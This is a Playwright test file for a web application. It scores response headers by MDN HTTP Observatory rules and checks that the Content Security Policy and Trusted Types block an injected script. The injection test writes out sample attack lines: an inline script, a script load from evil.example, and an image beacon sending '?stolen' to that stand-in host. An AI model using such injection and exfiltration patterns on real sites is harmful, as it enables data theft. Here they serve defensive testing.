import { expect } from '@playwright/test';
import { PASSWORD, startProduct } from './product';
import { test } from './product-test';
import { CLIENT, STAFF } from './sign-in';

test('each kind of response scores 130 or more by the MDN HTTP Observatory rules', async () => {
  const product = await startProduct({ PUBLIC_URL: 'https://www.example.com' });
  try {
    const credentials = new URLSearchParams({ email: CLIENT, password: PASSWORD });
    const signIn = { method: 'POST', body: credentials, redirect: 'manual' } as const;
    const signedIn = await fetch(`${product.url}/api/login`, signIn);
    const cookie = signedIn.headers.getSetCookie()[0]!.split(';')[0]!;
    const home = await (await fetch(product.url)).text();
    const named = (pattern: RegExp) => pattern.exec(home)![0];
    const own = await fetch(`${product.url}/api/client/documents`, { headers: { Cookie: cookie } });
    const document = ((await own.json()) as { filePath: string; hasFile: boolean }[]).find(
      ({ hasFile }) => hasFile,
    )!;
    for (const target of [
      '/',
      '/services',
      '/contact',
      '/no-such-page',
      '/admin',
      '/account',
      '/sitemap.xml',
      '/robots.txt',
      '/api/services',
      '/api/login',
      '/api/docs',
      '/api/auth/user',
      '/api/no-such-call',
      '/healthz',
      named(/\/assets\/[\w.-]+\.js/),
      named(/\/remotes\/mfe-marketing\/[\w./-]+\.js/),
      named(/\/design\/[\w./-]+\.woff2[^"]*/),
      named(/\/cards\/[^"]+/),
      '/remotes.json',
      document.filePath,
    ]) {
      const { headers } = await fetch(product.url + target, {
        redirect: 'manual',
        headers: { Cookie: target.startsWith('/api/client') ? cookie : '' },
      });
      const score = observatoryScore(Object.fromEntries(headers), headers.getSetCookie());
      expect({ target, score }).toEqual({ target, score: Math.max(score, 130) });
      expect(headers.get('Permissions-Policy')).toContain('camera=()');
      expect(headers.get('Cross-Origin-Opener-Policy')).toBe('same-origin');
    }
    expect(
      observatoryScore(Object.fromEntries(signedIn.headers), signedIn.headers.getSetCookie()),
    ).toBeGreaterThanOrEqual(130);
  } finally {
    await product.stop();
  }
});

test.describe('an injected script', () => {
  test.use({ expectedComplaints: /Content Security Policy|Trusted|evil\.example/ });

  test('cannot load foreign scripts, turn a string into HTML or send data by a picture, and owners are informed', async ({
    page,
    product,
  }) => {
    // Injected into the very page that the server sent, with the policy that it sent.
    await page.route('/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', '<script>window.stolen = 1</script></body>');
      await route.fulfill({ response, body });
    });
    await page.goto('/', { waitUntil: 'networkidle' });
    const outcomes = await page.evaluate(async () => {
      const attempt = (work: () => void) => {
        try {
          work();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const scriptFrom = (url: string) =>
        attempt(() => (document.createElement('script').src = new URL(url, location.href).href));
      const violated = new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
          if (blockedURI.startsWith('https://evil.example')) resolve(effectiveDirective);
        }),
      );
      new Image().src = 'https://evil.example/?stolen';
      return {
        elsewhere: scriptFrom('https://evil.example/x.js'),
        download: scriptFrom('/api/client/documents/1/file'),
        own: scriptFrom('/assets/x.js'),
        remote: scriptFrom('/remotes/mfe-marketing/browser/x.js'),
        html: attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
        picture: await violated,
        inline: 'stolen' in window,
      };
    });
    expect(outcomes).toEqual({
      elsewhere: 'TypeError',
      download: 'TypeError',
      own: 'done',
      remote: 'done',
      html: 'TypeError',
      picture: 'img-src',
      inline: false,
    });

    const body = new URLSearchParams({ email: STAFF, password: PASSWORD });
    const signedIn = await fetch(`${product.url}/api/login`, { method: 'POST', body, redirect: 'manual' });
    const headers = { Cookie: signedIn.headers.getSetCookie()[0]!.split(';')[0]! };
    const listed = async () => (await fetch(`${product.url}/api/admin/reports`, { headers })).json();
    for (const report of [
      { page: '/', directive: 'img-src', blocked: 'https://evil.example/' },
      { page: '/', directive: 'require-trusted-types-for' },
      { page: '/', directive: 'script-src-elem', blocked: 'inline' },
    ])
      await expect.poll(listed).toContainEqual(expect.objectContaining(report));
  });
});

type Headers = Readonly<Record<string, string | undefined>>;

const HALF_A_YEAR_S = 15_768_000;
const PRIVATE = ['no-referrer', 'same-origin', 'strict-origin', 'strict-origin-when-cross-origin'];
const SAME = ['same-origin', 'same-site', 'cross-origin'];

/**
 * The score that the tests of the MDN HTTP Observatory give an answer over https, by its lower-case headers: 100, less what is
 * wrong, and from 90 on more for what exceeds the requirements. Cookies and pages with scripts of other origins count as there.
 */
function observatoryScore(headers: Headers, cookies: readonly string[] = []): number {
  const given = [scoreOfPolicy(headers), scoreOfCookies(cookies), ...scoresOfOthers(headers)];
  const base = given.filter((score) => score < 0).reduce((sum, score) => sum + score, 100);
  return base < 90 ? base : given.filter((score) => score > 0).reduce((sum, score) => sum + score, base);
}

function scoresOfOthers(headers: Headers): number[] {
  const maxAge = Number(/max-age=(\d+)/.exec(headers['strict-transport-security'] ?? '')?.[1] ?? -1);
  const referrer = headers['referrer-policy'];
  const resource = headers['cross-origin-resource-policy'];
  return [
    maxAge < 0 ? -20 : maxAge < HALF_A_YEAR_S ? -10 : 0,
    referrer === undefined ? 0 : PRIVATE.includes(referrer) ? 5 : -5,
    headers['x-content-type-options'] === 'nosniff' ? 0 : -5,
    framesAreBarred(headers) ? 5 : /^(deny|sameorigin)$/i.test(headers['x-frame-options'] ?? '') ? 0 : -20,
    resource === undefined ? 0 : SAME.includes(resource) ? 10 : -5,
    headers['access-control-allow-origin'] === undefined ? 0 : -50,
  ];
}

const framesAreBarred = (headers: Headers) =>
  /^('none'|'self')$/.test(directivesOf(headers).get('frame-ancestors')?.join(' ') ?? '');

function scoreOfPolicy(headers: Headers): number {
  const directives = directivesOf(headers);
  if (directives.size === 0) return -25;
  const sourcesOf = (name: string) => directives.get(name) ?? directives.get('default-src') ?? ['*'];
  const isBroad = (source: string) =>
    /^(\*|https?:|data:|blob:|ftp:|'unsafe-inline'|'unsafe-hashes')$/.test(source);
  const all = [...directives.values()].flat();
  if (['script-src', 'object-src'].some((name) => sourcesOf(name).some(isBroad))) return -20;
  if (all.some((source) => source.startsWith('http:'))) return -20;
  if (all.includes("'unsafe-eval'")) return -10;
  if (sourcesOf('style-src').some(isBroad)) return 0;
  return directives.get('default-src')?.join(' ') === "'none'" ? 10 : 5;
}

function directivesOf(headers: Headers): Map<string, string[]> {
  const policy = headers['content-security-policy'] ?? '';
  return new Map(
    policy
      .split(';')
      .map((directive) => directive.trim().split(' '))
      .filter(([name]) => name)
      .map(([name, ...sources]) => [name!.toLowerCase(), sources]),
  );
}

function scoreOfCookies(cookies: readonly string[]): number {
  if (cookies.length === 0) return 0;
  if (cookies.some((cookie) => !/;\s*Secure/i.test(cookie))) return -40;
  if (cookies.some((cookie) => !/;\s*HttpOnly/i.test(cookie))) return -30;
  return cookies.every((cookie) => /;\s*SameSite=(Lax|Strict)/i.test(cookie)) ? 5 : 0;
}
